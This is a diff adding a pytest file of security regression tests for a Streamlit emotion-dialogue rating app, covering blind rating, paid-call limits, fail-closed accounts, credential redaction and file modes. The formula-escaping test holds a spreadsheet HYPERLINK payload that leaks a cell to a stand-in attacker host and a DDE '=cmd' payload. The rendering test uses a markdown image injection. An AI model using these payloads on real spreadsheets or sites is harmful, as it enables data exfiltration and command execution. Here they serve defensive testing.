@@ -1,0 +1,311 @@
+"""Each security finding of issue 12, replayed: blindness, paid calls, fail-closed
+accounts, formula cells, credentials in URLs, file modes, literal rendering, bad files.
+(The lock-out and session findings are in test_users.py and the browser test.)"""
+
+from __future__ import annotations
+
+import io
+import shutil
+import stat
+import zipfile
+from pathlib import Path
+
+import pandas as pd
+import pytest
+from streamlit.testing.v1 import AppTest
+
+from koed_core import users
+from koed_core.backends import make_client
+from koed_core.dataset import load_dataset
+from koed_core.db import Store
+from koed_core.emotions import parse_reply
+from koed_core.export import to_csv
+from koed_core.llm import GenerationSettings
+from koed_core.paper_export import export_bundle
+from koed_core.paths import SAMPLE_FILE
+from koed_core.rating import RatingStore
+from koed_core.rating_report import export_rows, rows_csv
+from koed_core.registry import ModelSpec
+from koed_core.runner import run_benchmark
+from tests.fake_openai import FakeOpenAI
+
+ROOT = Path(__file__).resolve().parents[1]
+FIXTURE = ROOT / "tests" / "data" / "koed-0.1.0.db"
+LISTENER_RUN = "9d350d301481ea01a307"
+COOKIE_KEY = "k" * 40
+
+
+@pytest.fixture
+def site(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    """Accounts (an admin and a rater) and the 0.1.0 database with its open study."""
+    path = tmp_path / "users.yaml"
+    users.add_user(path, "boss", "admin", "Boss", "boss-password-1")
+    users.add_user(path, "mina", "rater", "Mina", "mina-password-1")
+    monkeypatch.setenv("KOED_USERS", str(path))
+    monkeypatch.setenv("KOED_COOKIE_KEY", COOKIE_KEY)
+    db = tmp_path / "koed.db"
+    shutil.copy(FIXTURE, db)
+    monkeypatch.setenv("KOED_DB", str(db))
+    return db
+
+
+def _as(username: str | None, page: str) -> AppTest:
+    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60)
+    if username:
+        at.session_state["authentication_status"] = True
+        at.session_state["username"] = username
+    at.run()
+    return at.switch_page(page).run()
+
+
+def _everything(at: AppTest) -> str:
+    parts = [
+        str(e.value)
+        for kind in ("markdown", "text", "caption", "info", "error")
+        for e in at.get(kind)
+    ]
+    parts += [df.value.to_csv() for df in at.dataframe]
+    return "\n".join(parts)
+
+
+# 1. Rating is blind --------------------------------------------------------------------
+
+
+def test_results_pages_reveal_nothing_of_an_open_study(site: Path) -> None:
+    texts = set(
+        Store(site).response_texts(list(Store(site).responses(LISTENER_RUN)["id"])).values()
+    )
+    for who in (None, "mina"):
+        agreement = _as(who, "pages/results/agreement.py")
+        assert not agreement.exception
+        assert not agreement.dataframe  # no table, no rationale, no comments
+        assert "No published human ratings yet" in agreement.info[0].value
+        demo = _as(who, "pages/results/demo.py")
+        assert not demo.exception
+        shown = _everything(demo)
+        assert not any(t in shown for t in texts), (
+            f"a {who or 'visitor'} saw a response under study"
+        )
+        assert not demo.get("toggle") or all(
+            t.label != "Ask the models live (needs their servers or keys)" for t in demo.toggle
+        )
+        gap = _as(who, "pages/results/gap.py")
+        assert not gap.exception
+        assert "study 1" not in str([s.options for s in gap.selectbox])
+        assert not [b for b in gap.get("download_button") if "paper" in b.label]
+    admin = _as("boss", "pages/results/agreement.py")
+    assert len(admin.dataframe) == 2  # the table and the disagreements, texts included
+    assert "note" in _everything(admin)  # raters' comments, for the admin only
+
+
+def test_closing_a_study_publishes_numbers_but_never_words(site: Path) -> None:
+    RatingStore(Store(site)).close(1)
+    rater = _as("mina", "pages/results/agreement.py")
+    assert not rater.exception and len(rater.dataframe) == 1  # the agreement table only
+    assert "alice note" not in _everything(rater)
+    assert RatingStore(Store(site)).next_item(1, "alice") is None  # no new items once closed
+
+
+# 2. Paid models need an admin ----------------------------------------------------------
+
+
+def test_visitors_and_raters_cannot_spend_the_servers_key(
+    site: Path, fake_registry: Path, fake_openai: FakeOpenAI
+) -> None:
+    for who in (None, "mina"):
+        at = _as(who, "pages/models/chat.py")
+        options = at.multiselect(key="chat.models").options
+        assert options and not any("fake-listener" in o for o in options)  # offline only
+        assert not [b for b in at.button if b.label == "Save for rating"]
+        # the server-side check itself, as a crafted request would meet it
+        probe = AppTest.from_function(_call_paid_model, kwargs={"url": fake_openai.base_url})
+        if who:
+            probe.session_state["authentication_status"] = True
+            probe.session_state["username"] = who
+        probe.run()
+        assert not probe.exception
+        assert "log in as an admin" in probe.error[0].value
+        assert fake_openai.requests == [], f"a {who or 'visitor'} reached the paid model"
+    admin = _as("boss", "pages/models/chat.py")
+    admin.multiselect(key="chat.models").set_value(["fake-listener"]).run()
+    admin.button(key="chat.ask").click().run()
+    assert len(fake_openai.requests) == 2
+
+
+def _call_paid_model(url: str) -> None:
+    import streamlit as st
+
+    from components.models import client_for
+    from koed_core.llm import GenerationSettings, ModelError
+    from koed_core.registry import ModelSpec
+
+    spec = ModelSpec(name="paid", backend="openai", model="m", base_url=url)
+    try:
+        client_for(spec).complete([{"role": "user", "content": "hi"}], GenerationSettings(), None)
+    except ModelError as err:
+        st.error(str(err))
+
+
+def test_each_account_has_an_hourly_allowance(
+    site: Path, fake_registry: Path, fake_openai: FakeOpenAI, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("KOED_CALLS_PER_HOUR", "2")
+    admin = _as("boss", "pages/models/chat.py")
+    admin.multiselect(key="chat.models").set_value(["fake-listener"]).run()
+    admin.button(key="chat.ask").click().run()  # two panes: the allowance is used up
+    assert len(fake_openai.requests) == 2
+    again = _as("boss", "pages/models/chat.py")
+    again.multiselect(key="chat.models").set_value(["fake-listener"]).run()
+    again.button(key="chat.ask").click().run()
+    assert len(fake_openai.requests) == 2
+    assert "model calls in the last hour" in _everything(again)
+
+
+# 4. A configured accounts file that cannot be read closes the doors ----------------------
+
+
+@pytest.mark.parametrize("content", [None, "", "something: else\n", "credentials: [\n"])
+def test_broken_accounts_file_fails_closed(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, content: str | None
+) -> None:
+    path = tmp_path / "users.yaml"
+    if content is not None:
+        path.write_text(content)
+    monkeypatch.setenv("KOED_USERS", str(path))
+    monkeypatch.setenv("KOED_COOKIE_KEY", COOKIE_KEY)
+    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60).run()
+    assert not at.exception  # public pages still work
+    for page in ("pages/models/runs.py", "pages/models/judge.py", "pages/rating/studies.py"):
+        with pytest.raises(ValueError, match="Could not find a navigation page"):
+            at.switch_page(page)
+        alone = AppTest.from_file(str(ROOT / page), default_timeout=60).run()
+        assert not alone.exception and not alone.button
+    login = at.switch_page("pages/account/login.py").run()
+    assert "The accounts file cannot be used" in login.error[0].value
+
+
+# 5. Spreadsheet formulas -----------------------------------------------------------------
+
+
+def test_no_csv_cell_starts_a_formula(site: Path, tmp_path: Path) -> None:
+    store = Store(site)
+    ratings = RatingStore(store)
+    attack = '=HYPERLINK("http://evil.invalid/?leak="&A1,"click")'
+    store.db.execute("update ratings set comment = ? where username = 'bob'", [attack])
+    store.db.conn.commit()
+    frame = pd.read_csv(io.StringIO(rows_csv(export_rows(ratings, 1, b"k"))))
+    comments = frame["comment"].dropna().astype(str)
+    assert (comments == "'" + attack).any()
+    cells = [str(c) for c in frame.to_numpy().ravel()]
+    assert not any(c.startswith(("=", "+", "@")) for c in cells)
+    dialogue = load_dataset(SAMPLE_FILE).dialogues[0]
+    from dataclasses import replace
+
+    crafted = replace(dialogue, situation_en="=cmd|' /C calc'!A0", situation_ko="-2+3")
+    text = to_csv([crafted])
+    assert text.startswith("\ufeff")  # Excel reads the Korean as Korean
+    assert "'=cmd" in text and "'-2+3" in text
+    export_bundle(store, tmp_path / "out")
+    gaps = pd.read_csv(tmp_path / "out" / "gaps.csv")
+    assert pd.api.types.is_numeric_dtype(gaps["gap"])  # numbers stay numbers
+
+
+# 6 and 9. Credentials in URLs, file modes -----------------------------------------------
+
+
+def test_credentials_in_a_base_url_never_leave(tmp_path: Path, fake_openai: FakeOpenAI) -> None:
+    host = fake_openai.base_url.split("//", 1)[1]
+    url = f"http://user:hunter2@{host}?api-key=SECRETKEY"
+    spec = ModelSpec(name="leaky", backend="openai", model="m", base_url=url)
+    store = Store(tmp_path / "k.db")
+    dataset = load_dataset(SAMPLE_FILE)
+    report = run_benchmark(
+        store,
+        make_client(spec, "sk-test"),
+        spec,
+        dataset.dialogues[:1],
+        dataset.sha256,
+        langs=["en"],
+        protocol="direct",
+        settings=GenerationSettings(max_retries=0, timeout_s=2),
+    )
+    stored = str(store.run_config(report.run_id)) + store.responses(report.run_id).to_csv()
+    assert "hunter2" not in stored and "SECRETKEY" not in stored and "sk-test" not in stored
+    out = tmp_path / "out"
+    export_bundle(store, out)
+    for file in out.iterdir():
+        body = file.read_bytes()
+        assert b"hunter2" not in body and b"SECRETKEY" not in body, file.name
+        assert stat.S_IMODE(file.stat().st_mode) == 0o600, file.name
+    assert stat.S_IMODE(out.stat().st_mode) == 0o700
+    from koed_core.paper_export import zip_bundle
+
+    archive = zip_bundle(store, tmp_path / "zip")
+    assert stat.S_IMODE(archive.stat().st_mode) == 0o600
+    with zipfile.ZipFile(archive) as bundle:
+        assert not any(b"hunter2" in bundle.read(n) for n in bundle.namelist())
+
+
+def test_a_0_1_0_url_with_credentials_is_redacted_on_upgrade(tmp_path: Path) -> None:
+    import sqlite3
+
+    db = tmp_path / "old.db"
+    shutil.copy(FIXTURE, db)
+    with sqlite3.connect(db) as conn:
+        conn.execute(
+            "update runs set config = json_set(config, '$.base_url', "
+            "'http://u:pw@127.0.0.1:9/v1?api_key=XYZ') where id = ?",
+            [LISTENER_RUN],
+        )
+    config, _ = Store(db).run_config(LISTENER_RUN) or ({}, None)
+    assert config["base_url"] == "http://***@127.0.0.1:9/v1?api_key=%2A%2A%2A"
+
+
+# 10. Names and ids render literally ------------------------------------------------------
+
+
+def test_display_names_render_literally(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    path = tmp_path / "users.yaml"
+    users.add_user(path, "eve", "admin", "![x](http://evil.invalid/p.png) **Eve**", "eve-password")
+    monkeypatch.setenv("KOED_USERS", str(path))
+    monkeypatch.setenv("KOED_COOKIE_KEY", COOKIE_KEY)
+    at = _as("eve", "pages/account/login.py")
+    shown = [c.value for c in at.sidebar.caption] + [s.value for s in at.success]
+    rendered = [v for v in shown if "evil" in v]
+    assert rendered and all("\\!\\[x\\]" in v and "\\*\\*Eve\\*\\*" in v for v in rendered)
+
+
+# 11. Bad files are messages, not tracebacks ----------------------------------------------
+
+
+def test_bad_files_are_named_on_the_page(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    models = tmp_path / "models.toml"
+    models.write_text("[models.x\nbackend = ")
+    monkeypatch.setenv("KOED_MODELS", str(models))
+    chat = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60).run()
+    chat.switch_page("pages/models/chat.py").run()
+    assert not chat.exception and "not valid TOML" in chat.error[0].value.replace("\\", "")
+    monkeypatch.delenv("KOED_MODELS")
+    db = tmp_path / "bad.db"
+    db.write_bytes(b"garbage" * 1000)
+    monkeypatch.setenv("KOED_DB", str(db))
+    for page in ("pages/results/gap.py", "pages/models/runs.py", "pages/results/demo.py"):
+        at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60).run()
+        at.switch_page(page).run()
+        assert not at.exception, page
+        assert any("not a usable SQLite database" in e.value.replace("\\", "") for e in at.error)
+    assert db.read_bytes() == b"garbage" * 1000
+    garbage = tmp_path / "users.yaml"
+    garbage.write_text(":\n  - [unclosed")
+    monkeypatch.setenv("KOED_USERS", str(garbage))
+    explorer = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60).run()
+    assert not explorer.exception and explorer.title[0].value == "Dialogue explorer"
+
+
+# 12. The reply is stored as the model gave it -------------------------------------------
+
+
+def test_reply_markup_is_kept() -> None:
+    parsed = parse_reply("Emotion: sad\nResponse: **Oh no**, that hurts: truly.", "single")
+    assert parsed.text == "**Oh no**, that hurts: truly."
+    assert parse_reply("**Response:** Oh no.", "direct").text == "Oh no."
